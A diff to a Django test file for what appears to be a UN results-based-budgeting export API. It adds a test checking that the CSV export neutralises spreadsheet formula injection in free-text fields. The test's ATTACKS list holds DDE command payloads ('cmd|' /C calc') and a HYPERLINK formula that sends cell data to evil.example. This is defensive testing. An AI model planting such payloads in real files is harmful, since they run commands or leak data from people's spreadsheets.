@@ -16,6 +16,7 @@ from indicators.api.selectors import figures_prefetch
 from indicators.models import Indicator, IndicatorFigure, Output
 from rbb.api import export
 from rbb.api.formats import plain_decimal
+from rbb.lib.cells import neutralise
 from tests.foundation.builders import add_framework, make_report
 
 pytestmark = pytest.mark.django_db
@@ -58,7 +59,7 @@ def test_csv_has_a_header_and_one_row_per_item_and_a_bom_on_request(world):
     first = rows[0]
     assert first["baselines"] == "2018/19: 574; 2019/20: 754"
     assert "科索沃" in first["accomplishment_text"]
-    with_bom = _body(client.get("/api/v1/export/?period=2020/21&mission=UNMIK&format=csv&bom=1"))
+    with_bom = _body(client.get("/api/v1/export/?period=2020/21&mission=UNMIK&format=csv&bom=true"))
     assert with_bom.startswith(b"\xef\xbb\xbf") and with_bom[3:] == plain
 
 
@@ -150,12 +151,13 @@ def test_memory_and_queries_stay_flat_while_streaming(world):
 
 def _expected_row(item, item_type: str) -> dict:
     ea = item.accomplishment
-    report = ea.unit.report
+    unit = item.unit if item_type == "output" else ea.unit  # a headquarters unit's own output has no ea
+    report = unit.report
     row = {
         "item_type": item_type, "id": item.pk, "mission": report.mission.code, "period": report.period.label,
         "report_id": report.pk, "report_type": report.report_type.code, "report_status": report.status,
-        "unit_number": ea.unit.number, "unit_title": ea.unit.title,
-        "accomplishment_number": ea.number, "accomplishment_text": ea.text, "number": item.number,
+        "unit_number": unit.number, "unit_title": unit.title,
+        "accomplishment_number": ea.number if ea else "", "accomplishment_text": ea.text if ea else "", "number": item.number,
         "heading": "", "text": "", "measure": "", "unit_hint": "", "direction": "", "baselines": [],
         "target": "", "target_value": None, "estimate": "", "estimate_value": None,
         "actual": "", "actual_value": None, "actual_narrative": "", "variance_explanation": "",
@@ -198,7 +200,9 @@ def _expected_rows(**scope) -> list[dict]:
     related = ("accomplishment__unit__report__mission", "accomplishment__unit__report__period",
                "accomplishment__unit__report__report_type")
     indicators = export.export_indicators(**scope).select_related(*related).prefetch_related(figures_prefetch())
-    outputs = export.export_outputs(**scope).select_related(*related)
+    outputs = export.export_outputs(**scope).select_related(
+        "unit__report__mission", "unit__report__period", "unit__report__report_type", "accomplishment",
+    )
     return [_expected_row(i, "indicator") for i in indicators] + [_expected_row(o, "output") for o in outputs]
 
 
@@ -238,8 +242,36 @@ def test_csv_rows_are_the_rows_read_through_the_models(world):
     writer = csv.writer(out)
     writer.writerow(export.COLUMNS)
     for row in expected:
-        writer.writerow([export._csv_cell(row[column]) for column in export.COLUMNS])
+        writer.writerow([
+            neutralise(export._csv_cell(row[column])) if column in export.FREE_TEXT_COLUMNS else export._csv_cell(row[column])
+            for column in export.COLUMNS
+        ])
     assert body.decode("utf-8") == out.getvalue()
+
+
+ATTACKS = ["=cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_csv_neutralises_formulas_in_free_text_and_ndjson_keeps_them_exact(world, attack):
+    """A remark or narrative a spreadsheet would run comes out of the CSV as text (a leading `'`);
+    NDJSON carries the text as typed."""
+    output = Output.objects.filter(accomplishment__unit__report=world.unmik).order_by("id").first()
+    Output.objects.filter(pk=output.pk).update(remarks=attack, heading=attack)
+    indicator = Indicator.objects.filter(accomplishment__unit__report=world.unmik).order_by("id").first()
+    Indicator.objects.filter(pk=indicator.pk).update(actual_narrative=attack, actual=attack)
+    client = world.client("focal")
+    rows = list(csv.DictReader(io.StringIO(_body(client.get("/api/v1/export/?period=2020/21&format=csv")).decode("utf-8"))))
+    by_id = {(r["item_type"], r["id"]): r for r in rows}
+    out, ind = by_id[("output", str(output.pk))], by_id[("indicator", str(indicator.pk))]
+    assert (out["remarks"], out["heading"]) == ("'" + attack, "'" + attack)
+    assert (ind["actual_narrative"], ind["actual"]) == ("'" + attack, "'" + attack)
+    # No cell of the file starts with a formula trigger.
+    assert not [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r" and not cell[1:].replace(".", "").isdigit()]
+    ndjson = {(r["item_type"], r["id"]): r for r in _ndjson(client.get("/api/v1/export/?period=2020/21&format=ndjson"))}
+    assert ndjson[("output", output.pk)]["remarks"] == attack
+    assert ndjson[("indicator", indicator.pk)]["actual_narrative"] == attack
 
 
 def test_a_figure_read_out_of_order_stops_the_export():
